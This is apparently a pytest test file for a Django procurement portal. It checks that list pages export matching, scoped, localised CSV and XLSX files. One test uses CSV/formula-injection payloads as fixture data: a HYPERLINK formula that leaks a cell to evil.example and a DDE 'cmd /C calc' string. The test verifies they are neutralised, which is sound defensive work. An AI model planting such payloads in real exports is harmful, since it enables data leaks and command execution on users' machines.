"""Every working list exports what it shows: the same rows in the same order under the
same filters, in the reader's scope, as CSV and XLSX, with nothing a spreadsheet would run.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from roadmap_portal.exports import export_list_names
from tests.factories import OfferFactory, user_with_role
from tests.helpers import assert_constant_queries, count_queries

pytestmark = pytest.mark.django_db


def csv_rows(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


def xlsx_rows(response):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# (url name, who reads, filters, key column, the page's key of a shown row)
LISTS = {
    "review-queue": (
        "certification:queue",
        "reviewer_A",
        {"status": "tested", "ordering": "-name"},
        0,
        lambda o: str(o.pk),
    ),
    "offers": (
        "suppliers:offer-list",
        "staff_A",
        {"status": "forwarded"},
        0,
        lambda o: str(o.pk),
    ),
    "suppliers": (
        "suppliers:supplier-list",
        "staff_A",
        {"verification_status": "verified"},
        0,
        lambda s: str(s.pk),
    ),
    "certificates": (
        "certification:certificate-list",
        "officer_A",
        {"status": "valid"},
        1,
        lambda c: c.number,
    ),
    "register": (
        "certification:register",
        "member_A",
        {"active": "true", "region": "RU-AX"},
        2,
        lambda e: e.offer.name,
    ),
    "tenders": (
        "procurement:tender-list",
        "reviewer_A",
        {"status": "open"},
        0,
        lambda t: t.number,
    ),
    "bids": (
        "procurement:bid-list",
        "member_A",
        {"status": "submitted"},
        0,
        lambda b: b.tender.number,
    ),
    "contracts": (
        "procurement:contract-list",
        "reviewer_A",
        {"year": "2025"},
        0,
        lambda c: c.number,
    ),
    "demands": (
        "procurement:demand-list",
        "reviewer_A",
        {"search": "1 Heron"},
        0,
        lambda d: str(d.pk),
    ),
    "notifications": (
        "notification-list",
        "reviewer_A",
        {"read": "false"},
        2,
        lambda n: n.message,
    ),
}


# The register is public inside the portal: every role reads both groups' entries.
PUBLIC = {"register"}


def test_every_list_is_declared():
    assert {name for name in export_list_names() if not name.startswith("api.")} == set(LISTS)
    assert {name for name in export_list_names() if name.startswith("api.")} == {
        f"api.{name}" for name in LISTS
    }


@pytest.mark.parametrize("name", sorted(LISTS))
def test_the_export_holds_the_rows_the_list_shows_in_its_order(world, client, name):
    url_name, who, filters, column, key = LISTS[name]
    client.force_login(getattr(world, who))
    url = reverse(url_name)
    page = client.get(url, filters)
    assert page.status_code == 200
    shown = [key(row) for row in page.context["page"]]
    unfiltered = client.get(url).context["page"].paginator.count
    # The filter leaves some rows out and keeps some.
    assert 0 < len(shown) < unfiltered, (len(shown), unfiltered)

    rows = csv_rows(client.get(url, {**filters, "export": "csv"}))
    assert [row[column] for row in rows[1:]] == shown
    sheet = xlsx_rows(client.get(url, {**filters, "export": "xlsx"}))
    assert sheet[0] == rows[0]
    assert [str(row[column]) for row in sheet[1:]] == shown
    if name in PUBLIC:
        return
    # The other side (region B, group B, body B) never appears, filtered or not.
    for query in (filters, {}):
        rows = csv_rows(client.get(url, {**query, "export": "csv"}))
        text = "\n".join(",".join(row) for row in rows)
        assert " B" not in text and "-B-" not in text, text


def test_headers_and_values_follow_the_readers_language(world, client):
    from suppliers.choices import OfferStatus

    client.force_login(user_with_role("reviewer", language="ru", corporation=world.group_A))
    rows = csv_rows(
        client.get(reverse("certification:queue"), {"status": "tested", "export": "csv"})
    )
    assert rows[0][:3] == ["Номер", "Продукция", "Поставщик"]
    assert rows[0][8] == "Этап"
    with translation.override("ru"):
        tested = str(OfferStatus.TESTED.label)
    assert tested != "Tested"
    assert {row[8] for row in rows[1:]} == {tested}


def test_values_are_human_readable(world, client):
    client.force_login(world.reviewer_A)
    rows = csv_rows(
        client.get(reverse("certification:queue"), {"status": "tested", "export": "csv"})
    )
    assert rows[0] == [
        "Number",
        "Product",
        "Supplier",
        "Region",
        "Roadmap",
        "OKPD2 code",
        "Import substitution",
        "Replaces imported analog",
        "Stage",
        "Waiting since",
    ]
    motor = next(row for row in rows if row[1] == "Motor A")
    assert motor[2:7] == [
        "Supplier A Heron",
        "Region A Oblast",
        "Roadmap A Heron",
        "28.14.11.000",
        "No",
    ]
    assert motor[8] == "Tested"
    # A moment to the minute in the portal's time zone, as a person writes it.
    assert len(motor[9]) == 16 and motor[9][4] == "-" and motor[9][10] == " "
    sheet = xlsx_rows(
        client.get(reverse("certification:queue"), {"status": "tested", "export": "xlsx"})
    )
    motor = next(row for row in sheet if row[1] == "Motor A")
    assert isinstance(motor[0], int) and motor[8] == "Tested"
    assert motor[9].__class__.__name__ == "datetime" and motor[9].second == 0


def test_formula_injection_is_neutralised_in_both_formats(world, client):
    hostile = OfferFactory(
        supplier=world.supplier_A,
        roadmap=world.offers_A["Motor A"].roadmap,
        status="tested",
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        replaces="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    client.force_login(world.reviewer_A)
    url = reverse("certification:queue")
    rows = csv_rows(client.get(url, {"status": "tested", "export": "csv"}))
    row = next(r for r in rows if r[0] == str(hostile.pk))
    assert row[1] == "'" + hostile.name and row[7] == "'" + hostile.replaces
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    response = client.get(url, {"status": "tested", "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for r in sheet.iter_rows() for cell in r]
    assert "'" + hostile.name in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    # The register's exclusion reason from the world is hostile too.
    client.force_login(world.member_A)
    rows = csv_rows(client.get(reverse("certification:register"), {"export": "csv"}))
    assert '\'=HYPERLINK("http://evil.example/","x")' in [r[10] for r in rows]


def test_an_unknown_format_is_refused_with_the_reason(world, client):
    client.force_login(world.staff_A)
    response = client.get(reverse("suppliers:offer-list"), {"export": "pdf"})
    assert response.status_code == 400
    assert response.content.decode() == "export: choose one of csv, xlsx."


def test_the_review_queue_exports_to_reviewers_only(world, client):
    client.force_login(world.staff_A)
    response = client.get(reverse("certification:queue"), {"export": "csv"})
    assert response.status_code == 403


def test_a_bad_filter_exports_what_the_list_shows_for_it(world, client):
    # The queue shows nothing for a filter given wrongly; its export is headers alone.
    client.force_login(world.reviewer_A)
    url = reverse("certification:queue")
    assert client.get(url, {"roadmap": "x"}).context["page"].paginator.count == 0
    assert len(csv_rows(client.get(url, {"roadmap": "x", "export": "csv"}))) == 1


def test_each_list_page_carries_its_filters_to_the_export_control(world, client):
    client.force_login(world.reviewer_A)
    page = client.get(reverse("certification:queue"), {"status": "tested", "page": "1"})
    html = page.content.decode()
    assert 'href="?status=tested&amp;export=csv"' in html
    assert 'href="?status=tested&amp;export=xlsx"' in html
    for name, (url_name, who, _filters, _column, _key) in LISTS.items():
        if name == "register":
            continue  # its own two buttons, kept
        client.force_login(getattr(world, who))
        html = client.get(reverse(url_name)).content.decode()
        assert 'data-export="csv"' in html and 'data-export="xlsx"' in html, name


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_queries_do_not_grow_with_rows(world, client, file_format):
    client.force_login(world.reviewer_A)
    roadmap = world.offers_A["Motor A"].roadmap

    def offers(n):
        for _ in range(n):
            OfferFactory(supplier=world.supplier_A, roadmap=roadmap, status="tested")

    def export():
        response = client.get(reverse("certification:queue"), {"export": file_format})
        if response.streaming:
            b"".join(response.streaming_content)
        return response

    queries = assert_constant_queries(offers, export)
    assert queries <= 12, queries


def test_certificate_and_bid_exports_read_their_products_in_one_query(world, client):
    client.force_login(world.member_A)
    url = reverse("procurement:bid-list")

    def export():
        response = client.get(url, {"export": "csv"})
        return b"".join(response.streaming_content)

    body, queries = count_queries(export)
    assert "Relay A" in body.decode()
    assert queries <= 12, queries
